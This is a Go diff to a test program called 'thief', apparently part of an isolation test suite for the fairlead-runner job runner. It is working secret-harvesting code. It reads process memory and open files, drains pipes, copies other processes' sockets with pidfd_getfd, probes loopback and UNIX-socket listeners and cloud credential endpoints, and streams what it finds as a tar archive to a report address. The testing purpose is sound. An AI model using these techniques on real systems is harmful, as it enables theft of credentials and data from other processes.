@@ -1,14 +1,18 @@
-// Command thief is a vendor's executable that looks for secrets in the place where it runs. It reads every process, every file and
-// every endpoint that it can reach, and sends all that it gets to the test, as a tar archive over a connection to the address in
-// THIEF_REPORT. The test knows the secrets of its world and looks for them. The thief knows none of them, and no code of the runner.
+// Command thief is a vendor's executable that looks for secrets in the place where it runs. It reads every process, every file,
+// every open descriptor and every endpoint that it can reach, and sends all that it gets to the test, as a tar archive over a
+// connection to the address in the file report of its folder. The test knows the secrets of its world and looks for them. The thief
+// knows none of them, and no code of the runner.
 //
 // With THIEF_WAITS it is the executable of another job: it reads its own credentials, keeps them in its memory, and ends when the test
-// closes the connection. Without THIEF_REPORT it only waits: then it holds the network of a container.
+// closes the connection. With THIEF_LEAKS it is a planted mistake: it leaves descriptors open and becomes the runner. Without an
+// address it only waits: then it holds the network of a container.
 package main
 
 import (
 	"archive/tar"
 	"bytes"
+	"context"
+	"encoding/hex"
 	"errors"
 	"fmt"
 	"io"
@@ -26,7 +30,12 @@ import (
 	"strings"
 	"syscall"
 	"time"
+
+	"golang.org/x/sys/unix"
 )
+
+// runner is the runner's program in its image.
+const runner = "/usr/local/bin/fairlead-runner"
 
 func main() {
 	if err := run(); err != nil {
@@ -36,19 +45,26 @@ func main() {
 }
 
 func run() error {
-	address := os.Getenv("THIEF_REPORT")
-	if address == "" {
+	if secrets := os.Getenv("THIEF_LEAKS"); secrets != "" {
+		return leak(strings.Split(secrets, ","))
+	}
+	address, err := os.ReadFile("report")
+	if errors.Is(err, fs.ErrNotExist) {
 		signals := make(chan os.Signal, 1)
 		signal.Notify(signals, syscall.SIGTERM)
 		<-signals
 		return nil
 	}
-	conn, err := net.Dial("tcp", address)
+	if err != nil {
+		return err
+	}
+	conn, err := net.Dial("tcp", string(address))
 	if err != nil {
 		return err
 	}
 	defer conn.Close()
-	t := &thief{out: tar.NewWriter(conn), urls: map[string]bool{}, tokens: map[string]bool{}, http: &http.Client{Timeout: 5 * time.Second}}
+	t := &thief{out: tar.NewWriter(conn), report: string(address), urls: map[string]bool{}, tokens: map[string]bool{},
+		http: &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DialContext: dial}}}
 	if os.Getenv("THIEF_WAITS") != "" {
 		return t.wait(conn)
 	}
@@ -65,6 +81,7 @@ var errUnauthorized = errors.New("the endpoint wants a token")
 // thief collects what leads to more: addresses and tokens.
 type thief struct {
 	out    *tar.Writer
+	report string // address of the test
 	urls   map[string]bool
 	tokens map[string]bool
 	http   *http.Client
@@ -93,6 +110,7 @@ func (t *thief) wait(conn net.Conn) error {
 // send sends what was read, and keeps the addresses and tokens in it.
 func (t *thief) send(from string, data []byte) error {
 	t.harvest(data)
+	from = strings.TrimRight(from, "/") // a name with a slash at its end is a folder, which has no data
 	if err := t.out.WriteHeader(&tar.Header{Name: from, Size: int64(len(data)), Mode: 0o600, Format: tar.FormatPAX}); err != nil {
 		return err
 	}
@@ -166,6 +184,7 @@ func (t *thief) processes() error {
 	return nil
 }
 
+// openFiles reads what the open descriptors of a process give: files, also those without a name, and what waits in pipes and sockets.
 func (t *thief) openFiles(process string) error {
 	open, err := os.ReadDir(filepath.Join(process, "fd"))
 	if err != nil {
@@ -173,14 +192,65 @@ func (t *thief) openFiles(process string) error {
 	}
 	for _, fd := range open {
 		path := filepath.Join(process, "fd", fd.Name())
-		if info, err := os.Stat(path); err != nil || !info.Mode().IsRegular() {
+		info, err := os.Stat(path)
+		if err != nil {
 			continue
 		}
-		if err := t.file(path); err != nil {
+		switch mode := info.Mode(); {
+		case mode.IsRegular():
+			err = t.file(path)
+		case mode&fs.ModeNamedPipe != 0:
+			err = t.pipe(path)
+		case mode&fs.ModeSocket != 0:
+			err = t.socket(path)
+		}
+		if err != nil {
 			return err
 		}
 	}
 	return nil
+}
+
+// pipe takes what waits in a pipe.
+func (t *thief) pipe(path string) error {
+	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return nil // it may not
+	}
+	defer unix.Close(fd)
+	buffer := make([]byte, 64<<10)
+	n, err := unix.Read(fd, buffer)
+	if err != nil || n == 0 {
+		return nil // it is empty
+	}
+	return t.send(path, buffer[:n])
+}
+
+// socket takes a copy of the socket's descriptor out of its process, and looks at what waits in it. path is the descriptor's in /proc.
+func (t *thief) socket(path string) error {
+	var pid, of int
+	if _, err := fmt.Sscanf(path, "/proc/%d/fd/%d", &pid, &of); err != nil {
+		return err
+	}
+	process, err := unix.PidfdOpen(pid, 0)
+	if err != nil {
+		return nil // it has ended
+	}
+	defer unix.Close(process)
+	fd, err := unix.PidfdGetfd(process, of, 0)
+	if pid == os.Getpid() {
+		fd, err = unix.FcntlInt(uintptr(of), unix.F_DUPFD_CLOEXEC, 0)
+	}
+	if err != nil {
+		return nil // it may not
+	}
+	defer unix.Close(fd)
+	buffer := make([]byte, 64<<10)
+	n, _, err := unix.Recvfrom(fd, buffer, unix.MSG_PEEK|unix.MSG_DONTWAIT)
+	if err != nil || n <= 0 {
+		return nil // it is empty, or it listens
+	}
+	return t.send(path, buffer[:n])
 }
 
 // memory reads all readable memory of a process, in pieces that overlap.
@@ -232,6 +302,8 @@ func (t *thief) files() error {
 			return fs.SkipDir
 		case d.Type().IsRegular():
 			return t.file(path)
+		case d.Type()&fs.ModeSocket != 0:
+			t.listener(overSocket(path))
 		}
 		return nil
 	})
@@ -266,7 +338,7 @@ func (t *thief) starting() error {
 	}
 	full := os.NewFile(uintptr(pipe[1]), "full")
 	defer func() { _, _ = syscall.Close(pipe[0]), full.Close() }()
-	cmd := exec.Command("/usr/local/bin/fairlead-runner", "version")
+	cmd := exec.Command(runner, "version")
 	cmd.Stdout, cmd.Env = full, []string{"A_RUNNER_THAT_STARTS=1"}
 	if err := cmd.Start(); err != nil {
 		return err
@@ -278,18 +350,29 @@ func (t *thief) starting() error {
 	return nil
 }
 
-// endpoints asks every listener of the loopback interface, and the addresses at which clouds serve credentials.
+// listener adds the addresses of a listener.
+func (t *thief) listener(url string) {
+	for _, path := range []string{"/", "/credentials"} {
+		t.urls[url+path] = true
+	}
+}
+
+// endpoints asks every listener of the loopback interface and every socket, and the addresses at which clouds serve credentials.
 func (t *thief) endpoints() error {
-	for _, port := range listeners() {
-		for _, path := range []string{"/", "/credentials"} {
-			t.urls[fmt.Sprintf("http://127.0.0.1:%d%s", port, path)] = true
+	for _, table := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
+		for _, port := range listeners(table) {
+			t.listener(fmt.Sprintf("http://127.0.0.1:%d", port))
+			t.listener(fmt.Sprintf("http://[::1]:%d", port))
 		}
+	}
+	for _, name := range sockets() {
+		t.listener(overSocket(name))
 	}
 	for _, path := range []string{"/", "/v2/credentials", "/v2/credentials/", "/v2/metadata", "/v2/stats", "/v3", "/v4", "/v4/credentials"} {
 		t.urls["http://169.254.170.2"+path] = true
 	}
 	for _, url := range slices.Sorted(maps.Keys(t.urls)) {
-		if strings.HasPrefix(url, "http://"+os.Getenv("THIEF_REPORT")) {
+		if strings.HasPrefix(url, "http://"+t.report) {
 			continue // it is the test
 		}
 		b, err := t.get(url, nil)
@@ -370,9 +453,9 @@ func (t *thief) do(req *http.Request) ([]byte, error) {
 	return b, err
 }
 
-// listeners returns the ports on which processes listen.
-func listeners() (ports []int) {
-	b, err := os.ReadFile("/proc/net/tcp")
+// listeners returns the ports on which processes listen, of a table of the kernel.
+func listeners(table string) (ports []int) {
+	b, err := os.ReadFile(table)
 	if err != nil {
 		return nil
 	}
@@ -388,4 +471,65 @@ func listeners() (ports []int) {
 		}
 	}
 	return ports
+}
+
+// sockets returns the names of the UNIX sockets on which processes listen: paths, and abstract names with @ before them.
+func sockets() (names []string) {
+	b, err := os.ReadFile("/proc/net/unix")
+	if err != nil {
+		return nil
+	}
+	for line := range strings.Lines(string(b)) {
+		const listening = "00010000"
+		if f := strings.Fields(line); len(f) > 7 && f[3] == listening {
+			names = append(names, f[7])
+		}
+	}
+	return names
+}
+
+// overSocket returns a URL that dial connects to a UNIX socket.
+func overSocket(name string) string { return "http://" + hex.EncodeToString([]byte(name)) + ".socket" }
+
+func dial(ctx context.Context, network, address string) (net.Conn, error) {
+	host, _, err := net.SplitHostPort(address)
+	if err != nil {
+		return nil, err
+	}
+	if encoded, ok := strings.CutSuffix(host, ".socket"); ok {
+		name, err := hex.DecodeString(encoded)
+		if err != nil {
+			return nil, err
+		}
+		network, address = "unix", string(name)
+	}
+	return new(net.Dialer).DialContext(ctx, network, address)
+}
+
+// leak leaves three descriptors open, each with one of the secrets, and becomes the runner: a pipe, a file without a name, and a socket.
+func leak(secrets []string) error {
+	if len(secrets) != 3 {
+		return fmt.Errorf("THIEF_LEAKS has %d secrets, want 3", len(secrets))
+	}
+	var pipe [2]int
+	if err := unix.Pipe2(pipe[:], 0); err != nil {
+		return err
+	}
+	memory, err := unix.MemfdCreate("leak", 0)
+	if err != nil {
+		return err
+	}
+	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
+	if err != nil {
+		return err
+	}
+	for i, fd := range []int{pipe[1], memory, pair[1]} {
+		if _, err := unix.Write(fd, []byte(secrets[i])); err != nil {
+			return err
+		}
+	}
+	if err := os.Unsetenv("THIEF_LEAKS"); err != nil {
+		return err
+	}
+	return unix.Exec(runner, append([]string{runner}, os.Args[1:]...), os.Environ())
 }
